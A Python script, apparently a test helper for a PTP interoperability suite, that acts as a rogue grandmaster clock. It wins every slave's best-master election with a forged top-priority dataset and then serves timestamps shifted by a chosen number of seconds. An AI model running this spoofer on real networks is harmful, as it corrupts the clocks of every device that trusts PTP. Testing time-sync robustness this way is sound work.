#!/usr/bin/env python3
"""A lying PTP grandmaster for the interop test (not a peer: the forger).

It announces a better dataset than any default master (priority1 0, clockClass 6), so it wins
every slave's best master clock algorithm, and tells time LIE seconds ahead of this host's clock:
in the PTP timescale (TAI, currentUtcOffset 37 valid): two-step Sync + Follow_Up every 1/4 s, Announce every second, Delay_Resp to every Delay_Req, all
multicast over UDPv4 on INTERFACE (IEEE 1588-2019 Annex C). Usage: ptp_liar.py INTERFACE LIE
"""
import select
import socket
import struct
import sys
import time

interface, lie = sys.argv[1], float(sys.argv[2])
GROUP = "224.0.1.129"
IDENTITY = bytes.fromhex("020000fffe000001")  # a locally administered clock identity
PORT_ID = IDENTITY + struct.pack(">H", 1)


def channel(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    s.bind(("", port))
    mreqn = struct.pack("4s4si", socket.inet_aton(GROUP), b"\0" * 4, socket.if_nametoindex(interface))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreqn)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, mreqn)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    return s


event, general = channel(319), channel(320)


def timestamp(t):
    # The PTP timescale is TAI: this host's UTC + 37 s (announced below), plus the lie.
    t += 37 + lie
    seconds = int(t)
    ns = int((t - seconds) * 1e9)
    return seconds.to_bytes(6, "big") + ns.to_bytes(4, "big")


def header(kind, length, sequence, flags=0, control=0, log_interval=0):
    return struct.pack(">BBHBBHqI10sHBb", kind, 2, length, 0, 0, flags, 0, 0, PORT_ID, sequence, control, log_interval)


def announce(sequence):
    body = timestamp(time.time()) + struct.pack(">hBBBBHB8sHB", 37, 0, 0, 6, 0x21, 0x4E5D, 0, IDENTITY, 0, 0x20)
    return header(0xB, 64, sequence, flags=0x0008 | 0x0004, control=5) + body  # PTP timescale, UTC offset valid


sequence = {"announce": 0, "sync": 0}
next_announce = next_sync = time.time()
while True:
    now = time.time()
    if now >= next_announce:
        sequence["announce"] = (sequence["announce"] + 1) & 0xFFFF
        general.sendto(announce(sequence["announce"]), (GROUP, 320))
        next_announce = now + 1
    if now >= next_sync:
        sequence["sync"] = (sequence["sync"] + 1) & 0xFFFF
        sync = header(0x0, 44, sequence["sync"], flags=0x0200, control=0, log_interval=-2) + bytes(10)
        sent = time.time()
        event.sendto(sync, (GROUP, 319))
        follow_up = header(0x8, 44, sequence["sync"], control=2, log_interval=-2) + timestamp(sent)
        general.sendto(follow_up, (GROUP, 320))
        next_sync = now + 0.25
    ready, _, _ = select.select([event], [], [], max(0.0, min(next_announce, next_sync) - time.time()))
    if ready:
        data, _ = event.recvfrom(1500)
        received = time.time()
        if len(data) >= 44 and data[0] & 0x0F == 0x1:  # Delay_Req: answer with when it came
            requesting = data[20:30]
            their_sequence = struct.unpack(">H", data[30:32])[0]
            response = header(0x9, 54, their_sequence, control=3, log_interval=0) + timestamp(received) + requesting
            general.sendto(response, (GROUP, 320))
